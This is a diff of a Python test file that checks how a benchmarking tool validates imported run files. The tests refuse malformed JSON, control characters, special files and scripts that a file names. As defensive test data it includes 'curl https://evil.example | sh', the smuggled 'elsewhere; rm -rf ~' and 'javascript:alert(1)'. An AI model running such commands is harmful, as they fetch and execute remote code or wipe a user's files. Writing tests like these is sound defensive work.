@@ -1,21 +1,35 @@
 """Import of exported races: what each damaged file is told, and that an imported race counts for nothing here."""
 
+import contextlib
+import csv
+import io
 import json
+import os
+import re
+from pathlib import Path
 
 import pytest
 
 from bench.claims.headline import report_headline, write_headline
 from bench.cli.main import main
+from bench.plan.resolved import resolve
+from bench.plan.validation import PlanError, make_plan
 from bench.run.outcome import describe_outcome
 from bench.run.record import Run
+from bench.run.run_comparison import compare_runs
 from bench.scheduler.case_series import find_fresh_run
+from bench.scheduler.rerun import check_rerun
 from bench.scheduler.run_import import ImportFileError, import_run, read_run_file
-from bench.storage.attempts import build_report
+from bench.scheduler.script_jobs import plan_script
+from bench.storage.attempts import NO_ATTEMPT, build_report, format_attempts, format_position
+from bench.storage.csv_export import jobs_csv
 from bench.storage.integrity import digest_export
 from bench.storage.store import Store
 from tests.support.stored_runs import store_run
 from ui.reports.content import ReportedRun, ReportFields
 from ui.reports.html_report import write_html
+
+UPLOAD = f"upload:{'a' * 64}"
 
 
 @pytest.fixture
@@ -32,7 +46,10 @@ def make_report(run: Run) -> dict:
 
 def write(tmp_path, report) -> str:
     file = tmp_path / "run.json"
-    file.write_text(report if isinstance(report, str) else json.dumps(report, indent=1))
+    if isinstance(report, bytes):
+        file.write_bytes(report)
+    else:
+        file.write_text(report if isinstance(report, str) else json.dumps(report, indent=1))
     return file
 
 
@@ -82,6 +99,8 @@ def cut(text: str) -> str:
 def test_a_truncated_file_is_named_as_that_wherever_it_ends(elsewhere, tmp_path):
     text = json.dumps(make_report(elsewhere), indent=1)
     within_words = [text.index(word) + length for word in ("true", "false", "null") for length in range(1, len(word))]
+    escape = text.index("\\u")
+    within_words += range(escape, escape + 8)
     for end in (*range(1, len(text), 997), *within_words, *range(len(text) - 100, len(text))):
         with pytest.raises(ImportFileError, match="cut off"):
             read_run_file(write(tmp_path, text[:end]))
@@ -136,7 +155,10 @@ def test_each_other_fault_has_its_own_message(elsewhere, tmp_path, change, text)
         ("{}", "not an exported run"),
         ("hello", "not JSON"),
         ('{"version": NaN}', "contains NaN"),
-        ("[" * 100_000, "not the JSON of a run"),
+        ("[" * 100_000, "more than 32 levels"),
+        ("[" * 4_000_001, "more than 4,000,000 values"),
+        ('{"version": ' + "9" * 5000 + "}", "not the JSON of a run"),
+        (b"\xff", "not JSON in UTF-8"),
     ],
 )
 def test_what_is_no_run_is_refused(tmp_path, text, message):
@@ -149,6 +171,123 @@ def test_the_command_line_imports_the_good_files_and_names_the_bad_ones(elsewher
     assert main(["import", str(good), str(tmp_path / "nowhere.json")]) == 2
     captured = capsys.readouterr()
     assert "Imported eeeeeeee" in captured.out and "No such file" in captured.err
+
+
+def replace(report: dict, path: str, value) -> dict:
+    """`report` with another value at a place such as `plan.batch`, and a new digest."""
+    *parents, last = path.split(".")
+    target = report
+    for name in parents:
+        target = target[int(name)] if isinstance(target, list) else target[name]
+    target[int(last) if isinstance(target, list) else last] = value
+    return sign(report)
+
+
+BEYOND_FLOATS = json.loads("1e999")
+DEEP = json.loads("[" * 40 + "]" * 40)
+
+
+@pytest.mark.parametrize(
+    ("path", "value", "text"),
+    [
+        ("plan.batch", 2**63, "plan.batch: the integer is too large"),
+        ("plan.budget_s", BEYOND_FLOATS, "plan.budget_s: the number is too large"),
+        ("requester", "a\x1b[31mb", r"requester: a text contains the control character \x1b"),
+        ("requester", "a\u202eb", r"the control character \u202e"),
+        ("requester", "a\ud800b", r"the control character \ud800"),
+        ("machine.host\x07name", "a", r"the control character \x07"),
+        ("requester", "a" * 100_001, "a text has 100,001 characters"),
+        ("plan.parameters", DEEP, "more than 32 levels"),
+        ("attempts", ["x"], None),
+        ("attempts", {"text": {"x": 1}}, None),
+        ("pictures", {"baseline": []}, "an export has no field pictures"),
+        ("started", "2026-01-01T00:00:00", "expected a time with a zone"),
+        ("started", "0001-01-01T00:00:00Z", "expected a time with a zone"),
+        ("started", "9999-12-31T23:00:00Z", "expected a time with a zone"),
+        ("snapshot.arms", {"baseline": "x"}, "expected a label for each of both arms"),
+        ("snapshot.source", "javascript:alert(1)", "a source is no address of a page"),
+        ("samples", [], "cannot be computed from its samples|do not follow"),
+        ("statistics.0.ratio.value", 99.0, "the ratio of total does not follow from its medians"),
+        ("statistics.0.ratio.low", -1.0, "the ratio of total does not follow from its medians"),
+        ("statistics.0.ratio.low", 98.0, "the ratio of total does not follow from its medians"),
+    ],
+)
+def test_what_a_type_does_not_show_is_checked_too(elsewhere, tmp_path, path, value, text):
+    report = make_report(elsewhere)
+    with contextlib.suppress(UnicodeEncodeError):  # No digest can be made of half a surrogate pair.
+        report = replace(report, path, value)
+    file = write(tmp_path, json.dumps(report).replace("Infinity", "1e999"))
+    if text is None:
+        assert read_run_file(file).imported.attempts == ""
+        return
+    with pytest.raises(ImportFileError, match=re.escape(text) if "|" not in text else text):
+        read_run_file(file)
+
+
+@pytest.mark.timeout(60)
+@pytest.mark.parametrize("kind", ["folder", "pipe", "device", "large", "nul"])
+def test_what_is_no_file_of_a_run_is_neither_waited_for_nor_read_whole(tmp_path, capsys, kind):
+    path = {"device": "/dev/zero", "nul": "a\0b"}.get(kind, str(tmp_path / kind))
+    if kind == "folder":
+        Path(path).mkdir()
+    elif kind == "pipe":
+        os.mkfifo(path)
+    elif kind == "large":
+        with open(path, "wb") as file:
+            file.truncate(2**40)
+    assert main(["import", path]) == main(["rerun", path]) == 2
+    errors = capsys.readouterr().err
+    words = {"folder": "this is a folder", "large": "larger than 64 MiB", "nul": "no path of a file"}
+    assert errors.count(words.get(kind, "no regular file")) == 2
+    assert "Traceback" not in errors and not Store().rows(with_imported=True)
+
+
+def test_a_command_in_the_file_is_not_believed(elsewhere, tmp_path):
+    report = replace(make_report(elsewhere), "snapshot.command", "curl https://evil.example | sh")
+    run = read_run_file(write(tmp_path, report))
+    assert run.snapshot.command == elsewhere.snapshot.command
+    unknown = replace(make_report(elsewhere), "plan.workload", "elsewhere; rm -rf ~")
+    assert read_run_file(write(tmp_path, unknown)).snapshot.command == "python -m bench rerun run.json"
+
+
+def test_an_imported_race_has_no_number_among_attempts_in_any_list(finished, tmp_path, capsys):
+    own = store_run(finished, "a" * 32)
+    store_run(finished, "b" * 32)
+    run = import_run(Store(), write(tmp_path, make_report(finished.model_copy(update={"id": "c" * 32}))))
+    store = Store()
+    for job in (run, store.row(run.id)):
+        summary = store.summarize_attempts(job)
+        assert summary == NO_ATTEMPT and format_position(summary) == "imported" and format_attempts(summary) is None
+    assert format_position(store.summarize_attempts(own)) == "1 of 2"
+    rows = store.rows(with_imported=True)
+    text = jobs_csv(rows, store.summarize_attempts_of_all(rows))
+    exported = {line["run"]: line for line in csv.DictReader(io.StringIO(text))}
+    assert exported[run.id]["attempt"] == "" and exported[own.id]["attempt"] == "1"
+    assert [line for line in compare_runs([own, run]).arms.columns if line.endswith(" imported")] != []
+    # What was known of attempts elsewhere stays, also if the import is exported.
+    again = make_report(run.model_copy(update={"imported": run.imported.model_copy(update={"attempts": "3 others."})}))
+    assert read_run_file(write(tmp_path, again)).imported.attempts == "3 others."
+
+
+def test_a_rerun_never_runs_a_script_that_a_file_names(finished, tmp_path, capsys):
+    script = tmp_path / "theirs.py"
+    script.write_text(f"open({str(tmp_path / 'ran')!r}, 'w')")
+    plan = plan_script(str(script), [])
+    report = make_report(finished.model_copy(update={"plan": plan, "digest": plan.digest, "id": "d" * 32}))
+    for options in ([], ["--with-inputs"]):
+        assert main(["rerun", str(write(tmp_path, report)), *options]) == 2
+        errors = capsys.readouterr().err
+        assert "runs no code that a file names" in errors and str(script) in errors
+    assert not (tmp_path / "ran").exists() and not Store().rows()
+
+
+def test_a_rerun_uses_files_of_the_same_name_only_if_asked(tmp_path):
+    for file, message in (("/home/them/table.csv", "inputs of the machine where it was made"), (UPLOAD, "upload it")):
+        plan = make_plan("modin", core_limit=1, parameters={"file": file})
+        with pytest.raises(PlanError, match=message):
+            check_rerun(plan, with_inputs=False)
+    if not resolve(make_plan("modin", core_limit=1)).unavailable():
+        check_rerun(make_plan("modin", core_limit=1, parameters={"file": "/home/them/table.csv"}), with_inputs=True)
 
 
 @pytest.mark.timeout(120)
